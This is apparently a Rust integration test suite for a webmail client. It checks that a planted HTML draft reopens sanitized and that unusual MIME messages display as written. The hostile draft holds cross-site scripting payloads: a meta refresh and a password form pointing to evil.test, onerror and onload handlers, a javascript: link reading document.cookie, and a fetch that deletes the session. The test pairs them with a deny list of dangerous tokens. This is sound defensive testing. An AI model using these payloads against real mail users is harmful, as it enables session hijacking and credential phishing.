//! Hardening of what mail puts on screen, against the real Dovecot: a hostile message
//! planted in Drafts reopens sanitized (it goes into the composer, on the app's own
//! origin), and odd but real mail (frameset, split encoded words, unlabelled charsets)
//! shows as its sender wrote it.

use axum::http::StatusCode;
use facteur_model::compose::Draft;
use facteur_model::message::MessageDetail;
use facteur_tests::{MailServer, signed_in};

/// A draft as an attacker (or a careless client) could put in Drafts: every way HTML
/// can act on the page it is inserted into, around harmless formatting.
const HOSTILE_DRAFT: &[u8] = b"From: test5@example.test\r\n\
To: victim@example.test\r\n\
Subject: Brouillon piege\r\n\
Date: Tue, 3 Mar 2026 09:15:00 +0100\r\n\
Message-ID: <hostile-draft@example.test>\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n\
--b1\r\n\
Content-Type: text/plain; charset=utf-8\r\n\r\n\
Bonjour\r\n\
--b1\r\n\
Content-Type: text/html; charset=utf-8\r\n\r\n\
<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/\">\r\n\
<p>Bonjour <b>Jean</b>, <i>voici</i> le <a href=\"https://example.test/plan\">plan</a>.</p>\r\n\
<iframe srcdoc=\"&lt;script src=/assets/app.js&gt;&lt;/script&gt;\"></iframe>\r\n\
<img src=\"x\" onerror=\"fetch('/api/session',{method:'DELETE'})\">\r\n\
<div onmouseover=\"alert(1)\" style=\"position:fixed;inset:0\">survol</div>\r\n\
<a href=\"javascript:alert(document.cookie)\">clic</a>\r\n\
<form action=\"https://evil.test/\"><input name=\"password\"></form>\r\n\
<svg onload=\"alert(2)\"></svg><object data=\"https://evil.test/x\"></object>\r\n\
<ul><li>un</li><li>deux</li></ul><blockquote>cit\xc3\xa9</blockquote>\r\n\
--b1--\r\n";

#[tokio::test]
async fn a_planted_draft_reopens_without_active_html() {
    let server = MailServer::shared();
    let user = "test5@example.test";
    server
        .append(user, "Drafts", &[(HOSTILE_DRAFT, Some("(\\Draft)"))])
        .await;
    let browser = signed_in(&server, user).await;
    let page = browser.page("Drafts", "").await;
    let uid = page
        .messages
        .iter()
        .find(|m| m.subject == "Brouillon piege")
        .expect("the planted draft is listed")
        .uid;

    let reply = browser
        .get(&format!("/api/folders/Drafts/messages/{}/draft", uid.0))
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text());
    let draft: Draft = reply.json();
    let html = draft.body.html.expect("the HTML version");
    let lower = html.to_ascii_lowercase();
    for bad in [
        "<iframe",
        "srcdoc",
        "<meta",
        "refresh",
        "<img",
        "onerror",
        "onmouseover",
        "onload",
        "javascript:",
        "<form",
        "<input",
        "<svg",
        "<object",
        "style=",
        "evil.test",
        "alert",
    ] {
        assert!(!lower.contains(bad), "{bad} survived: {html}");
    }
    for kept in [
        "<p>Bonjour <b>Jean</b>, <i>voici</i> le <a href=\"https://example.test/plan\">plan</a>.</p>",
        "<ul><li>un</li><li>deux</li></ul>",
        "<blockquote>cité</blockquote>",
        "survol",
    ] {
        assert!(html.contains(kept), "{kept} lost: {html}");
    }
}

const FRAMESET: &[u8] = include_bytes!("../resources/mime/frameset-with-noframes.eml");
const SPLIT_WORDS: &[u8] = include_bytes!("../resources/mime/encoded-words-split-multibyte.eml");
const ASCII_UTF8: &[u8] = include_bytes!("../resources/mime/us-ascii-declared-utf8-bytes.eml");
const CP1252: &[u8] = include_bytes!("../resources/mime/undeclared-windows-1252-bytes.eml");

#[tokio::test]
async fn odd_mail_shows_as_written() {
    let server = MailServer::shared();
    let user = "test6@example.test";
    server
        .append(
            user,
            "INBOX",
            &[
                (FRAMESET, None),
                (SPLIT_WORDS, None),
                (ASCII_UTF8, None),
                (CP1252, None),
            ],
        )
        .await;
    let browser = signed_in(&server, user).await;
    let page = browser.page("INBOX", "").await;
    let by_id = |id: &str| {
        page.messages
            .iter()
            .find(|m| m.preview.contains(id) || m.subject.contains(id))
            .unwrap_or_else(|| panic!("{id} not listed: {:?}", page.messages))
    };

    let split = by_id("Café 日本");
    assert_eq!(split.subject, "Café 日本");
    assert_eq!(
        split.from.as_ref().and_then(|a| a.name.as_deref()),
        Some("Renée Dupont")
    );
    assert_eq!(by_id("Menu").preview, "Café crème — 8 €");
    assert_eq!(by_id("Facture").preview, "Café : 3 €, “crème” incluse.");

    let frameset = by_id("Votre releve").uid;
    let reply = browser
        .get(&format!("/api/folders/INBOX/messages/{}", frameset.0))
        .await;
    let detail: MessageDetail = reply.json();
    assert!(detail.has_html);
    let body = browser
        .get(&format!(
            "/api/folders/INBOX/messages/{}/body.html?images=blocked",
            frameset.0
        ))
        .await;
    assert_eq!(body.status, StatusCode::OK);
    let html = body.text();
    assert!(
        html.contains("<p>Votre relevé de <b>mars</b> est disponible.</p>"),
        "{html}"
    );
    assert!(!html.contains("banque.example"), "{html}");
}
